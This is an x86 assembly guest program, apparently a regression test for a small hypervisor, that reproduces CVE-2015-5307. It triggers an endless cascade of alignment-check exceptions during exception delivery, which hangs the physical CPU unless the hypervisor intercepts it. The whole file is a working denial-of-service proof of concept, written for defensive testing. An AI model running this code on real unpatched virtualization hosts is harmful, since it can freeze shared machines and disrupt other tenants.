; ac_loop.asm: the #AC-in-#AC-delivery attack (CVE-2015-5307).  With
; CR0.AM and EFLAGS.AC set, ring 3 makes a misaligned load; the #AC gate
; leads to a conforming code segment, so the handler would run at CPL 3 on
; the same stack (no stack switch), whose ESP is misaligned: pushing the
; #AC frame is itself a misaligned CPL-3 access, another #AC, and so on.
; #AC is benign, so the CPU delivers it again and again (SDM Vol. 3A 6.15,
; table 6-5): without interception the physical CPU never leaves this
; guest.  Under tinyhv every delivery attempt is a VM exit; the VM ends
; only by its CPU-time limit (cpu_limit=).  The handler never runs: if it
; does, it prints a FAIL line (ring 3 has IOPL 3 for that) and spins.
%define GUEST_NAME "ac_loop"
%include "common.inc"

AC_VECTOR       equ 17
USER_CODE_SEL   equ 0x18 | 3
USER_DATA_SEL   equ 0x20 | 3
CONFORMING_SEL  equ 0x28
CR0_AM          equ 1 << 18
EFLAGS_AC       equ 1 << 18
EFLAGS_IOPL3    equ 3 << 12

main:
	lgdt [gdtr_ac]
	jmp CODE_SEL:.reload_cs
.reload_cs:
	; The #AC gate: an interrupt gate to the conforming segment.
	mov eax, AC_VECTOR
	mov edx, ac_handler
	call set_gate
	mov word [idt + AC_VECTOR * 8 + 2], CONFORMING_SEL
	mov eax, cr0
	or eax, CR0_AM
	mov cr0, eax
	LINE "ring 3, CR0.AM, EFLAGS.AC, ESP misaligned, #AC gate to a conforming segment: #AC in #AC delivery for ever"
	mov ax, USER_DATA_SEL
	mov ds, ax
	mov es, ax
	push dword USER_DATA_SEL
	push dword user_stack_top - 1   ; misaligned
	push dword EFLAGS_AC | EFLAGS_IOPL3 | 2
	push dword USER_CODE_SEL
	push dword r3_code
	iretd

r3_code:
	mov eax, [aligned_word + 1]     ; the first #AC
.spin:
	jmp .spin

; Reached only if the frame could be pushed: not the attack's loop.
ac_handler:
	mov esp, user_stack_top - 64
	pushfd
	and dword [esp], ~EFLAGS_AC
	popfd
	LINE "FAIL the #AC handler ran: no #AC during the #AC delivery"
.spin:
	jmp .spin

section .data
	align 8
gdt_ac:
	dq 0
	dq 0x00CF9A000000FFFF           ; 0x08: ring-0 code
	dq 0x00CF92000000FFFF           ; 0x10: ring-0 data
	dq 0x00CFFA000000FFFF           ; 0x18: ring-3 code
	dq 0x00CFF2000000FFFF           ; 0x20: ring-3 data
	dq 0x00CF9E000000FFFF           ; 0x28: conforming code, DPL 0: runs at CPL 3 from ring 3
gdt_ac_end:
	align 4
	dw 0
gdtr_ac:
	dw gdt_ac_end - gdt_ac - 1
	dd gdt_ac
	align 4
aligned_word:   dd 0, 0

section .bss
	alignb 16
user_stack:     resb 4096
user_stack_top:
